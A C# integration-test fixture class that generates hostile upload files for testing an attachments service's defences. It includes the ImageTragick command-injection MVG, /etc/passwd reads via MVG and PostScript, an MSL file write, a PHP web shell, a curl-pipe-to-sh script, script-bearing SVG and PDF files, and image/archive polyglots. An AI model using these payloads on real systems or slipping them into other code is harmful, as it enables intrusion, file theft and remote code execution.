using System.Buffers.Binary;
using System.IO.Compression;
using System.Text;
using Attachments.IntegrationTests.Images;
using Attachments.UnitTests;
using ImageMagick;

namespace Attachments.IntegrationTests.Hostile;

/// <summary>
/// Hostile files, generated: no public corpus of them ships with the fixtures (shared/fixtures/images holds only
/// camera photos, orientation samples, TIFF and HEIC). Each is the well-known form of its attack.
/// </summary>
internal static class HostilePayloads
{
    /// <summary>The ImageTragick proof of concept (CVE-2016-3714): a shell command smuggled into a fill URL.</summary>
    public const string ImageTragickMvg =
        "push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://127.0.0.1/x.jpg\"|ls \"-la)'\npop graphic-context\n";

    /// <summary>ImageTragick file read (CVE-2016-3717) without the usual opening lines.</summary>
    public const string MvgFileRead = "image over 0,0 0,0 'label:@/etc/passwd'\n";

    /// <summary>MSL writes files wherever it is told (CVE-2016-3718 family).</summary>
    public const string Msl =
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<image>\n<read filename=\"/etc/passwd\" />\n<write filename=\"/tmp/pwned.png\" />\n</image>\n";

    public const string SvgFetchingAnImage =
        "<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" width=\"64\" height=\"64\">" +
        "<image xlink:href=\"https://127.0.0.1/internal.png\" width=\"64\" height=\"64\"/></svg>\n";

    public const string SvgWithScript =
        "<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(document.cookie)\"><rect width=\"1\" height=\"1\"/></svg>";

    public const string Html = "<!DOCTYPE html>\n<html><body><script>fetch('/api/user/list')</script></body></html>\n";

    public const string Php = "<?php system($_GET['c']); ?>\n";

    public const string ShellScript = "#!/bin/sh\ncurl -s http://127.0.0.1/x | sh\n";

    public const string PostScript = "%!PS-Adobe-3.0\n%%BoundingBox: 0 0 100 100\n(/etc/passwd) (r) file 100 string readstring pop print\nshowpage\n";

    public const string Xbm = "#define pwn_width 8\n#define pwn_height 2\nstatic char pwn_bits[] = { 0xff, 0x00, 0xff, 0x00, 0xff, 0x00, 0xff, 0x00 };\n";

    public const string Xpm = "/* XPM */\nstatic char *pwn[] = {\n\"2 1 2 1\",\n\"a c #FF0000\",\n\"b c #0000FF\",\n\"ab\"\n};\n";

    /// <summary>A PDF whose catalogue runs JavaScript when opened (in viewers that allow it).</summary>
    public const string PdfWithJavaScript =
        "%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n" +
        "3 0 obj << /S /JavaScript /JS (app.alert\\('pdf'\\);) >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n";

    public static byte[] Text(string text) => Encoding.UTF8.GetBytes(text);

    /// <summary>A Windows PE header: MZ, the DOS stub message, PE\0\0 and an x64 machine type.</summary>
    public static byte[] WindowsExecutable()
    {
        const int peHeaderOffset = 0x80;
        var bytes = new byte[512];
        "MZ"u8.CopyTo(bytes);
        BinaryPrimitives.WriteInt32LittleEndian(bytes.AsSpan(0x3C), peHeaderOffset);
        "This program cannot be run in DOS mode."u8.CopyTo(bytes.AsSpan(0x4E));
        "PE\0\0"u8.CopyTo(bytes.AsSpan(peHeaderOffset));
        BinaryPrimitives.WriteUInt16LittleEndian(bytes.AsSpan(peHeaderOffset + 4), 0x8664);
        return bytes;
    }

    /// <summary>An ELF64 executable header for x86-64.</summary>
    public static byte[] ElfExecutable()
    {
        var bytes = new byte[256];
        new byte[] { 0x7F, (byte)'E', (byte)'L', (byte)'F', 2, 1, 1, 0 }.CopyTo(bytes, 0);
        BinaryPrimitives.WriteUInt16LittleEndian(bytes.AsSpan(16), 2);
        BinaryPrimitives.WriteUInt16LittleEndian(bytes.AsSpan(18), 0x3E);
        return bytes;
    }

    /// <summary>A real camera JPEG with a zip appended: a viewer shows the photo, unzip extracts the archive.</summary>
    public static byte[] JpegZipPolyglot() =>
        [.. File.ReadAllBytes(Fixtures.Image("camera/Canon_40D.jpg")), .. Zip(("payload.php", Php))];

    /// <summary>
    /// GIFAR: a valid GIF with a JAR appended, which a JVM runs as an applet from the image's origin. Written without
    /// ImageMagick: test case sources run before the security policy is applied, and ImageMagick must not be used first.
    /// </summary>
    public static byte[] Gifar() =>
        [.. GeneratedAnimations.Gif(1, 16, 16, 16, 16), .. Zip(("META-INF/MANIFEST.MF", "Manifest-Version: 1.0\n"), ("Exploit.class", "\u00ca\u00fe\u00ba\u00be"))];

    public static byte[] GifJavaScriptPolyglot() => GeneratedAnimations.GifJavaScriptPolyglot();

    /// <summary>A small PNG unique to <paramref name="seed"/>, so that uploads of it are never de-duplicated.</summary>
    public static byte[] Png(int seed)
    {
        using var image = new MagickImage(MagickColor.FromRgb((byte)seed, (byte)(seed >> 8), 200), 32, 24);
        return image.ToByteArray(MagickFormat.Png);
    }

    private static byte[] Zip(params (string Name, string Content)[] entries)
    {
        using var buffer = new MemoryStream();
        using (var archive = new ZipArchive(buffer, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var (name, content) in entries)
            {
                using var writer = new StreamWriter(archive.CreateEntry(name).Open());
                writer.Write(content);
            }
        }

        return buffer.ToArray();
    }
}
